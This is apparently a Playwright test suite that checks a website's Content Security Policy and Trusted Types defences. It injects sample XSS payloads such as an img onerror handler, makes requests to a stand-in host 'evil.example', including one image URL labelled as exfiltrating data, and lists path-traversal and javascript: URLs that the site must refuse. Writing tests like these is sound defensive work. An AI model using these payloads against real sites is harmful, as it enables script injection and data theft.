import type { Page } from 'playwright/test';
import { expect, open, test } from '../support/site';

test.describe.configure({ retries: 0 });

/** Attempts of an injected script. Each must be blocked and reported. */
const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.append('window.ran = true');
      document.body.append(script);
    }),
  'an inline handler': (page) =>
    page.evaluate(() => {
      try {
        document.body.setAttribute('onclick', 'window.ran = true');
        document.body.click();
      } catch {
        // Blocked by Trusted Types.
      }
    }),
  'text as HTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">');
      } catch {
        // Blocked by Trusted Types.
      }
    }),
  'text as code': (page) =>
    page.evaluate(() => {
      try {
        setTimeout('window.ran = true', 0);
      } catch {
        // Blocked by Trusted Types.
      }
    }),
  'another Trusted Types policy': (page) =>
    page.evaluate(() => {
      try {
        Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (html: string) => html });
      } catch {
        // Only the site's own policy name is allowed.
      }
    }),
  'a connection to another site': (page) =>
    page.evaluate(() => fetch('https://evil.example/').catch(() => {})),
  'an image that exfiltrates data': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?data' }));
    }),
  'a base element': (page) =>
    page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    }),
  'an iframe from another site': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    }),
};

for (const [name, breach] of Object.entries(BREACHES)) {
  test(`${name} is blocked, and the suite detects it`, async ({ context, violations }) => {
    // The `page` fixture would fail on these errors.
    const page = await context.newPage();
    await open(page, '/about');
    expect(violations).toEqual([]);
    await breach(page);
    await expect.poll(() => violations.length).toBeGreaterThan(0);
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    await page.close();
    // These violations were intended.
    violations.length = 0;
  });
}

test("the only Trusted Types policy for scripts accepts the site's own scripts alone", async ({ page }) => {
  await open(page, '/about');
  const isRefused = (src: string) =>
    page.evaluate((address) => {
      try {
        document.createElement('script').src = address;
        return false;
      } catch {
        return true;
      }
    }, src);
  for (const src of [
    'https://evil.example/x.js',
    '//evil.example/_next/static/x.js',
    'data:text/javascript,window.ran=true',
    'blob:https://evil.example/x',
    'javascript:window.ran=true',
    '/api/site-index.json',
    '/_next/static/../../api/health',
    '/_next/static/%2e%2e/%2e%2e/api/health',
    '/images/x.js',
  ])
    expect(await isRefused(src), src).toBe(true);
  expect(await isRefused('/_next/static/chunks/x.js')).toBe(false);
  expect(await isRefused('/sw.js')).toBe(false);
});
